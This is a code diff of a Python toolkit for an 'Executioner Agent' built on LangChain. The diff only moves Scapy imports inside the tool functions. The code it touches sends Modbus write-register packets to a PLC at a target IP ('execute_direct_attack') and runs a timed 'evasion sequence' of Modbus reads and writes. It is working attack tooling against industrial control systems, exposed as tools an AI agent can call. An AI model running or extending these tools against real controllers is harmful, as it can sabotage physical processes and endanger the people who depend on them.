@@ -3,13 +3,11 @@
 import time
 import json
 from langchain_core.tools import tool
-from scapy.all import send
-from scapy.layers.inet import TCP, IP
-from scapy.contrib.modbus import ModbusADURequest, ModbusPDU03ReadHoldingRegistersRequest, ModbusPDU10WriteMultipleRegistersRequest
 from shared_tools import analyze_document
 
 # This module contains the toolkit for the Executioner Agent.
 # Note: analyze_document is imported from shared_tools for consistency across agents
+# Note: Scapy is imported inside each tool so it is only loaded on first use
 
 @tool
 def execute_direct_attack(target_ip: str, plc_register: int, value: int) -> str:
@@ -26,6 +24,10 @@ def execute_direct_attack(target_ip: str, plc_register: int, value: int) -> str:
         A confirmation string that the attack payload was sent.
     """
     print(f"--- EXECUTIONER/TOOL: Sending DIRECT attack to {target_ip}... ---")
+    from scapy.all import send
+    from scapy.layers.inet import TCP, IP
+    from scapy.contrib.modbus import ModbusADURequest, ModbusPDU10WriteMultipleRegistersRequest
+
     pdu = ModbusPDU10WriteMultipleRegistersRequest(startingAddr=plc_register, outputsValue=[value])
     adu = ModbusADURequest(transId=4, protoId=0, unitId=1, pdu=pdu)
     packet = IP(dst=target_ip) / TCP(sport=1028, dport=502) / adu
@@ -54,6 +56,10 @@ def execute_evasion_sequence(sequence_plan_str: str) -> str:
     except (json.JSONDecodeError, KeyError) as e:
         return f"Error: Invalid sequence plan format. Could not parse JSON. Details: {e}"
 
+    from scapy.all import send
+    from scapy.layers.inet import TCP, IP
+    from scapy.contrib.modbus import ModbusADURequest, ModbusPDU03ReadHoldingRegistersRequest, ModbusPDU10WriteMultipleRegistersRequest
+
     for step in plan['steps']:
         action = step['action']
         delay = step.get('delay_after', 0)